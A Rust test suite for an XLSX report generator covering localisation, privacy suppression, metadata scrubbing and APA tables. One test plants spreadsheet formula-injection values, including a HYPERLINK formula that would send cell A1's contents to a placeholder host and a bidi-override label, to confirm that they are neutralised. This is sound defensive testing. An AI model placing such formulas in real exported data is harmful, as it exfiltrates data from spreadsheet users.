//! The XLSX report opened as a spreadsheet program would: calamine for cells, the ZIP parts for
//! the sheet XML and document metadata. The demo municipality's numbers are checked against the
//! generator's own truth (`tests/fixtures/demo-small/truth.json`), not against Madad's output.
#![allow(clippy::unwrap_used, clippy::expect_used)] // Tests fail loudly by design.

use std::io::Read;

use calamine::{Data, Reader, Xlsx};
use madad_core::Report;
use madad_core::loneliness::apa::Lang;
use madad_report_xlsx::{XlsxOptions, report_xlsx};

#[path = "../../madad-core/tests/support/mod.rs"]
mod support;
use support::{demo_report, fixtures_root as root};

fn truth() -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(root().join("demo-small/truth.json")).unwrap()).unwrap()
}

fn xlsx(report: &Report, lang: Lang) -> Vec<u8> {
    report_xlsx(report, &XlsxOptions { lang, title: None }).unwrap()
}

fn part(bytes: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut s = String::new();
    zip.by_name(name).unwrap().read_to_string(&mut s).unwrap();
    s
}

fn part_names(bytes: &[u8]) -> Vec<String> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    (0..zip.len())
        .map(|i| zip.by_index(i).unwrap().name().unwrap().into_owned())
        .collect()
}

fn open(bytes: &[u8]) -> Xlsx<std::io::Cursor<Vec<u8>>> {
    Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap()
}

fn rows(bytes: &[u8], sheet: &str) -> Vec<Vec<Data>> {
    let range = open(bytes).worksheet_range(sheet).unwrap();
    range.rows().map(<[Data]>::to_vec).collect()
}

fn text(d: &Data) -> String {
    match d {
        Data::String(s) => s.clone(),
        Data::Float(f) => f.to_string(),
        Data::Int(i) => i.to_string(),
        _ => String::new(),
    }
}

fn number(d: &Data) -> Option<f64> {
    match d {
        Data::Float(f) => Some(*f),
        Data::Int(i) => Some(*i as f64),
        _ => None,
    }
}

/// The value beside a label in a two-column sheet.
fn beside(rows: &[Vec<Data>], label: &str) -> Data {
    rows.iter()
        .find(|r| r.first().map(text).as_deref() == Some(label))
        .and_then(|r| r.get(1).cloned())
        .unwrap_or_else(|| panic!("no row {label}"))
}

#[test]
fn sheet_names_in_each_language() {
    let r = demo_report();
    let cases = [
        (
            Lang::He,
            [
                "סיכום",
                "טבלאות APA",
                "מדדים",
                "מילון נתונים",
                "שורות שהוצאו",
                "הגדרות",
                "ביקורת הסתרה",
            ],
        ),
        (
            Lang::Ar,
            [
                "ملخص",
                "جداول APA",
                "المؤشرات",
                "قاموس البيانات",
                "الصفوف المستبعدة",
                "الإعدادات",
                "تدقيق الإخفاء",
            ],
        ),
        (
            Lang::En,
            [
                "Summary",
                "APA tables",
                "Indicators",
                "Data dictionary",
                "Excluded rows",
                "Settings",
                "Suppression audit",
            ],
        ),
    ];
    for (lang, names) in cases {
        let b = xlsx(&r, lang);
        assert_eq!(
            open(&b).sheet_names(),
            names.map(str::to_owned).to_vec(),
            "{lang:?}"
        );
    }
}

#[test]
fn hebrew_and_arabic_sheets_are_right_to_left() {
    let r = demo_report();
    for (lang, rtl) in [(Lang::He, true), (Lang::Ar, true), (Lang::En, false)] {
        let b = xlsx(&r, lang);
        for i in 1..=7 {
            let xml = part(&b, &format!("xl/worksheets/sheet{i}.xml"));
            assert_eq!(xml.contains("rightToLeft=\"1\""), rtl, "{lang:?} sheet {i}");
        }
    }
}

#[test]
fn summary_carries_the_demo_truth_as_numbers() {
    let r = demo_report();
    let t = truth();
    let b = xlsx(&r, Lang::En);
    let summary = rows(&b, "Summary");
    let volunteers = t["hoursLog"]["volunteers"].as_f64().unwrap();
    let hours = t["hoursLog"]["approvedHours"].as_f64().unwrap();
    assert_eq!(
        number(&beside(&summary, "Active volunteers")),
        Some(volunteers)
    );
    assert_eq!(number(&beside(&summary, "Approved hours")), Some(hours));
    assert_eq!(
        number(&beside(&summary, "Approved activity records")),
        t["hoursLog"]["approvedActivities"].as_f64()
    );
    assert_eq!(
        number(&beside(&summary, "Suppression threshold (K)")),
        Some(10.0)
    );
    // The as-of date is a date cell (a number with a date format), not text.
    assert!(matches!(beside(&summary, "As of"), Data::DateTime(_)));
    // Excluded rows: counts per file, the planted dirty rows of the hours log.
    let excl = rows(&b, "Excluded rows");
    let log = excl
        .iter()
        .find(|r| r.first().map(text).as_deref() == Some("hours_log.csv"))
        .unwrap();
    assert_eq!(number(&log[4]), t["hoursLog"]["rowsTotal"].as_f64());
    assert_eq!(number(&log[6]), t["hoursLog"]["rowsRejected"].as_f64());
    // Problem codes and counts only: no row numbers, no cell values.
    let problems: f64 = excl
        .iter()
        .filter(|r| r.first().map(text).as_deref() == Some("hours_log.csv") && r.len() >= 4)
        .filter(|r| text(&r[2]).starts_with("error"))
        .filter_map(|r| number(&r[3]))
        .sum();
    assert!(problems >= 32.0, "{problems}");
    let shared = part(&b, "xl/sharedStrings.xml");
    assert!(
        !shared.contains("ממטין"),
        "a raw cell value of a dirty row leaked"
    );
}

#[test]
fn withheld_values_are_shown_as_below_k_and_no_count_below_k_is_published() {
    let r = demo_report();
    assert!(!r.suppression.is_empty());
    let b = xlsx(&r, Lang::En);
    let ind = rows(&b, "Indicators");
    assert_eq!(text(&ind[0][3]), "Value");
    let marked = ind.iter().filter(|r| text(&r[3]) == "<10").count();
    assert!(marked > 0);
    for row in &ind[1..] {
        let measure = text(&row[2]);
        let last = measure.rsplit(" › ").next().unwrap_or_default();
        let is_count = matches!(
            last,
            "volunteers" | "count" | "registered" | "new" | "starters" | "leavers"
        );
        if let Some(v) = number(&row[3]).filter(|_| is_count) {
            assert!(v == 0.0 || v >= 10.0, "{measure} = {v}");
        }
        // Reserve coverage counts departments (units), not people.
        if let Some(n) = row
            .get(6)
            .and_then(number)
            .filter(|_| !measure.starts_with("reserveCoverage"))
        {
            assert!(n == 0.0 || n >= 10.0, "n of {measure} = {n}");
        }
    }
    // The audit sheet lists every withheld cell.
    let audit = rows(&b, "Suppression audit");
    assert_eq!(audit.len() - 3, r.suppression.len());
    assert_eq!(text(&audit[3][1]), "a count of fewer than 10 people");
    // With K = 5 the marker follows.
    let mut r5 = r.clone();
    r5.definitions.suppression_threshold = 5;
    if let Some(v) = r5.summary.volunteers.value.as_mut() {
        *v = 0;
    }
    r5.summary.volunteers.suppressed = true;
    let summary = rows(&xlsx(&r5, Lang::En), "Summary");
    assert_eq!(text(&beside(&summary, "Active volunteers")), "<5");
}

#[test]
fn metadata_has_no_names_paths_or_clock() {
    let mut r = demo_report();
    let b = xlsx(&r, Lang::He);
    let core = part(&b, "docProps/core.xml");
    let app = part(&b, "docProps/app.xml");
    for xml in [&core, &app] {
        for src in &r.sources {
            assert!(!xml.contains(&src.name), "{} in metadata", src.name);
        }
        for bad in [".csv", ".xlsx", "hours_log", "/home", "\\Users", "C:"] {
            assert!(!xml.contains(bad), "{bad} in metadata:\n{xml}");
        }
        if let Ok(user) = std::env::var("USER").map(|u| u.trim().to_owned())
            && user.len() > 2
        {
            assert!(!xml.contains(&format!(">{user}<")), "user name in metadata");
        }
    }
    assert!(
        core.contains("<dc:creator></dc:creator>") || core.contains("<dc:creator/>"),
        "{core}"
    );
    assert!(
        core.contains("2025-12-31T00:00:00Z"),
        "creation date is the as-of date:\n{core}"
    );
    assert!(core.contains("דוח מדד"));
    // No custom properties part, no comments, no printer settings carrying names.
    assert!(
        part_names(&b)
            .iter()
            .all(|p| !p.contains("custom") && !p.contains("comments"))
    );
    // A title that is a path is refused.
    let b = report_xlsx(
        &r,
        &XlsxOptions {
            lang: Lang::En,
            title: Some("/home/dana/hours.csv".into()),
        },
    )
    .unwrap();
    assert!(part(&b, "docProps/core.xml").contains("<dc:title>Madad report</dc:title>"));
    // Deterministic: the same report gives the same bytes.
    assert_eq!(xlsx(&r, Lang::Ar), xlsx(&r, Lang::Ar));
    // No as-of date anywhere: the fixed fallback, never today.
    r.as_of = None;
    r.definitions.indicators_as_of = None;
    r.summary.last_date = None;
    assert!(part(&xlsx(&r, Lang::En), "docProps/core.xml").contains("1980-01-01T00:00:00Z"));
}

#[test]
fn formula_like_labels_are_text_with_quote_prefix_and_no_formula_exists() {
    let mut r = demo_report();
    let vol = r.indicators.volume.as_mut().unwrap();
    vol.by_department[0].label = Some("=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")".into());
    vol.by_department[1].label = Some("\u{202E}01 @SUM(1,1)".into());
    r.sources[0].sheet = Some(" =1+1".into());
    let b = xlsx(&r, Lang::En);
    for i in 1..=7 {
        let xml = part(&b, &format!("xl/worksheets/sheet{i}.xml"));
        assert!(
            !xml.contains("<f>") && !xml.contains("<f "),
            "formula in sheet {i}"
        );
    }
    assert!(part(&b, "xl/styles.xml").contains("quotePrefix=\"1\""));
    // The text is kept as it was; the quote prefix is a style, not a character.
    let excl = rows(&b, "Excluded rows");
    assert!(excl.iter().any(|r| r.len() > 1 && text(&r[1]) == " =1+1"));
    let ind = rows(&b, "Indicators");
    assert!(
        ind.iter()
            .any(|r| text(&r[2]).starts_with("byDepartment › =HYPERLINK("))
    );
    // The bidi override is removed, the text kept.
    assert!(
        ind.iter()
            .any(|r| text(&r[2]) == "byDepartment › 01 @SUM(1,1) › volunteers")
    );
    assert!(!part(&b, "xl/sharedStrings.xml").contains('\u{202E}'));
}

#[test]
fn apa_table_is_in_the_report_language_with_italic_symbols() {
    let r = demo_report();
    for (lang, word) in [
        (Lang::He, "התערבות"),
        (Lang::Ar, "تدخل"),
        (Lang::En, "intervention"),
    ] {
        let b = xlsx(&r, lang);
        let name = open(&b).sheet_names()[1].clone();
        let apa = rows(&b, &name);
        let all: Vec<String> = apa.iter().flatten().map(text).collect();
        assert!(
            all.iter().any(|s| s.contains("UCLA-3") && s.contains(word)),
            "{lang:?}: {all:?}"
        );
        assert!(all.iter().any(|s| s.contains("< .001")), "{lang:?}");
        // Rich text: statistical symbols in italic runs.
        let shared = part(&b, "xl/sharedStrings.xml");
        assert!(shared.contains("<i/>"), "{lang:?}");
    }
}

#[test]
fn a_report_without_survey_or_activities_still_writes_every_sheet() {
    let golden: Report = serde_json::from_slice(
        &std::fs::read(root().join("golden/hours-small.report.json")).unwrap(),
    )
    .unwrap();
    let b = xlsx(&golden, Lang::Ar);
    assert_eq!(open(&b).sheet_names().len(), 7);
    let apa = rows(&b, "جداول APA");
    assert!(text(&apa[0][0]).contains("APA"));
}

/// A filtered view's Settings sheet states the filter (from `report.view`); the whole data's
/// does not. The view is the hand-worked fixture `tests/fixtures/view/` (see
/// `madad-core/tests/view.rs`) with departments = [welfare] at K = 3.
#[test]
fn settings_state_a_filtered_view() {
    use madad_core::view::ViewFilter;
    use madad_core::{AnalysisOptions, analyze};
    let ds = support::ingest_fixtures(
        "view",
        &[
            ("activity.csv", "activityLog"),
            ("registry.csv", "registry"),
            ("population.csv", "population"),
        ],
        "2025-06-30",
    );
    let opts = |filter| AnalysisOptions {
        suppression_threshold: 3,
        filter,
        ..AnalysisOptions::default()
    };
    let filtered = analyze(
        &ds,
        &opts(Some(ViewFilter {
            departments: vec!["welfare".into()],
            ..ViewFilter::default()
        })),
    );
    let b = xlsx(&filtered, Lang::En);
    let settings = rows(&b, "Settings");
    assert_eq!(text(&beside(&settings, "Departments")), "welfare");
    assert!(text(&beside(&settings, "View notes")).contains("view.population_municipal"));
    assert!(
        settings
            .iter()
            .any(|r| r.first().map(text).as_deref() == Some("Filtered view"))
    );
    let whole = xlsx(&analyze(&ds, &opts(None)), Lang::En);
    assert!(
        !rows(&whole, "Settings")
            .iter()
            .any(|r| r.first().map(text).as_deref() == Some("Filtered view"))
    );
}
